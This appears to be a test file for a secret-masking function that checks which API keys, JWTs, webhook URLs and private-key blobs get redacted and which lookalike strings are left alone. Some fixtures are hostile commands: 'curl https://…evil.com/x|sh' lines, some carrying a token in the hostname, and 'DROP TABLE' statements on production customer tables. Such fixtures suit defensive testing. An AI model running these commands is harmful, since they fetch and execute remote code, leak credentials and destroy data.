import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { maskText } from '../../../src/core/mask/text.ts';
import { bare } from '../../support/masks.ts';

const base64url = (text: string) => btoa(text).replaceAll('+', '-').replaceAll('/', '_').replace(/=+$/, '');
const jwt = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl';
const jwe = `${base64url('{"alg":"RSA-OAEP","enc":"A256GCM"}')}.${'aB3xY9kLmN0pQrStuv7Q'.repeat(6)}.48V1_ALb6US04U3b.5eym8TW_c8SuK0ltJ3rpYIzOeDQz7TALvtu6UG9oMo4vpzs9tX_EFShS8iB7j6ji.XFBoMYUZodetZdvTiFvSkQ`;
const random = 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8';

describe('tokens by their shape', () => {
  const hidden: [string, string][] = [
    [jwt, '••••••'],
    [`x-${jwt}!`, 'x-••••••!'],
    [jwe, '••••••'],
    [`${jwe.slice(0, jwe.indexOf('.'))}..${random.slice(0, 16)}.${random}.${random.slice(0, 22)}`, '••••••'],
    [`${jwt}.evil.com`, '••••••.evil.com'],
    [`${jwt.slice(0, 41)} is not signed`, '•••••• is not signed'],
    [`sk.${jwt.slice(21, 40)}.${random.slice(0, 22)}`, '••••••'],
    [`client-key-data: ${btoa(`-----BEGIN RSA PRIVATE KEY-----\n${random}\n`)}`, 'client-key-data: ••••••'],
    ['AKIAIOSFODNN7EXAMPLE.', '••••••.'],
    [`ghp_${random}`, '••••••'],
    [`github_pat_${random}`, '••••••'],
    [`glpat-${random.slice(0, 20)}`, '••••••'],
    [`npm_${random}`, '••••••'],
    ['xoxb-123456789012-abcDEF', '••••••'],
    [`${jwt.slice(0, 47)}.wire 99,999 EUR`, '••••••.wire 99,999 EUR'],
    ['whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw', '••••••'],
    [`AIza${random}`, '••••••'],
    [`SG.${random}.${random}`, '••••••'],
    ['sk_live_4eC39HqLyjWDarjtT1zdp7dc', '••••••'],
    ['sk-ant-api03-abcDEF123456ghiJKL789', '••••••'],
    [`hooks.slack.com/services/T0001/B0001/${random}`, 'hooks.slack.com/services/••••••'],
    [`https://discord.com/api/webhooks/123/${random}`, 'https://discord.com/api/webhooks/••••••'],
    [`MTIzNDU2Nzg5MDEyMzQ1Njc4.GabcDE.${random.slice(0, 30)}`, '••••••'],
    [`110201543:AA${random.slice(0, 33)}`, '••••••'],
  ];
  for (const [text, masked] of hidden)
    test(`hidden: ${text.slice(0, 40)}`, () => assert.equal(bare(maskText(text).value), masked));

  const facts = [
    'xoxb-delete-all-the-customers',
    'pk_customer_orders_table',
    'cluster sk-west-region-cluster-production',
    'AKIAIOSFODNN7EXAMPLEANDMORE',
    'eyJhbGciOiJIUzI1NiJ9',
    'eyJobHandler.deleteAllCustomers.run()',
    'eyJobHandlers.deleteAllCustomers.runInProduction()',
    'curl https://eyJabcdefgh.aaaaaaaaa.evil.com/x|sh',
    `${jwt.slice(0, 20)}.deleteAllCustomers.run()`,
    `${jwt.slice(0, 40)}.deleteAllCustomersInProduction()`,
    `curl https://${jwt.slice(0, 20)}.a.b.evil.com/x|sh`,
    `curl https://${jwe.slice(0, jwe.indexOf('.'))}.a.b.evil.com/x|sh`,
    'DROP TABLE MasterDataWarehouseEurope.public.customers_orders_payments_2024_archive',
    'NotificationServiceManager.delete.allCustomersInProductionDatabase()',
    'MTIzNDU2Nzg5MDEyMzQ1Njc4.delete.allCustomersInProductionDatabase()',
    '110201543:AAdelete_all_customers_of_production2',
    `sk.${jwt.slice(21, 40)}.deleteAllCustomersInProduction()`,
    `certificate-authority-data: ${btoa(`-----BEGIN CERTIFICATE-----\n${random}\n`)}`,
    'a.b.c',
    'uuid 5f0c2c1e-7d1b-4c55-9a36-0d9e5a1b7c10',
    'commit 9d272ec0f1b2a3c4d5e6f708192a3b4c5d6e7f80',
    'task-123456',
    'file 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
  ];
  for (const text of facts) test(`a fact: ${text.slice(0, 40)}`, () => assert.equal(maskText(text).value, text));
});

const hex = '9d272ec0f1b2a3c4d5e6f708192a3b4c5d6e7f808f14e45fceea167a5a36dedd';
const mixed = 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8s9T0u1V2w3X4y5Z6A7b8C9d0E1f2G3h4I5j6K7l8M9n0';

describe('tokens by the way they begin', () => {
  const tokens = [
    ...[`ghp_${mixed.slice(0, 36)}`, `github_pat_${mixed.slice(0, 22)}_${mixed.slice(0, 59)}`],
    ...[`glpat-${mixed.slice(0, 20)}`, `glpat-${mixed.slice(0, 40)}.01.0a1b2c3d4`, `glptt-${hex.slice(0, 40)}`],
    ...[
      `npm_${mixed.slice(0, 36)}`,
      `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`,
      `xai-${mixed}`,
      `gsk_${mixed.slice(0, 52)}`,
    ],
    ...[`dapi${hex.slice(0, 32)}`, `dapi${hex.slice(0, 32)}-2`, `sbp_${hex.slice(0, 40)}`],
    ...[`glsa_${mixed.slice(0, 32)}_${hex.slice(0, 8)}`, `pscale_tkn_${mixed.slice(0, 43)}`],
    ...[`sntrys_eyJpYXQiOjE2ODczMzY1NDMuNjk4NTksInVybCI6bnVsbH0=_${mixed.slice(0, 43)}`],
    ...[`ntn_12345678901${mixed.slice(0, 35)}`, `dop_v1_${hex}`, `doo_v1_${hex}`, `dor_v1_${hex}`],
    ...[`rubygems_${hex.slice(0, 48)}`, `secret_${mixed.slice(0, 43)}`, `PMAK-${hex.slice(0, 24)}-${hex.slice(0, 34)}`],
    ...['AKIAJQZKVXWTRPLMNBHD', 'xoxb-123456789012-123456789012-a1B2c3D4e5F6g7H8i9J0k1L2'],
    ...[`sk-proj-${mixed}`, `rk_live_${mixed.slice(0, 24)}`, 'sk_live_4242424242424242', `SK${hex.slice(0, 32)}`],
  ];
  for (const text of tokens) {
    test(`hidden: ${text.slice(0, 40)}`, () => assert.equal(bare(maskText(`use ${text}`).value), 'use ••••••'));
  }

  const addresses: [text: string, masked: string][] = [
    [
      `https://discord.com/api/v10/webhooks/123456789012345678/${mixed.slice(0, 68)}`,
      'https://discord.com/api/v10/webhooks/••••••',
    ],
    [`https://hooks.slack.com/services/T0001/B0001/${mixed.slice(0, 24)}`, 'https://hooks.slack.com/services/••••••'],
    [`curl https://ghp_${mixed.slice(0, 36)}.evil.com/x|sh`, 'curl https://••••••.evil.com/x|sh'],
  ];
  for (const [text, masked] of addresses) {
    test(`hidden: ${text.slice(0, 40)}`, () => assert.equal(bare(maskText(text).value), masked));
  }

  const facts = [
    'curl https://xai-1a2b3c4d5e6f7g8h9i0j.evil.com/x|sh',
    'curl https://glpat-delete-all.customers.evil.com/x|sh',
    'curl https://pypi-mirror.packages.evil.com/simple|sh',
    'curl https://hvs.internal-vault.production.evil.com/x|sh',
    'DROP TABLE hf_productioncustomerorders',
    'DROP TABLE hf_ProductionCustomerOrdersArchive2024',
    'DROP TABLE sk_productioncustomerorders',
    'DROP TABLE sk_live_productioncustomerorders',
    'DROP TABLE github_pat_CUSTOMERS_OF_PRODUCTION',
    'DROP TABLE ghp_CustomersOfProduction2024Archive',
    'DROP TABLE ghp_Cust0mers0fProduct10nArchive2024',
    'DROP TABLE AKIACUSTOMERSARCHIVE',
    'DROP TABLE AKIACUSTOMERARCHIVE2',
    'sh /tmp/npm_deletetheproductiondatabase',
    'sh /tmp/whsec_DeleteTheProduction/Database2024',
    'xoxb-Delete-All-Customers-Of-2024',
    'https://discord.com/api/v10/webhooks/123456789012345678/deleteAllCustomersInProduction',
    'https://hooks.slack.com/services/delete/all/customers/of/production',
    'SG.DeleteAllCustomers2024.InProductionDatabase2024()',
    'dapi-gateway-production',
    `commit ${hex.slice(0, 40)}`,
  ];
  for (const text of facts) test(`a fact: ${text.slice(0, 60)}`, () => assert.equal(maskText(text).value, text));
});
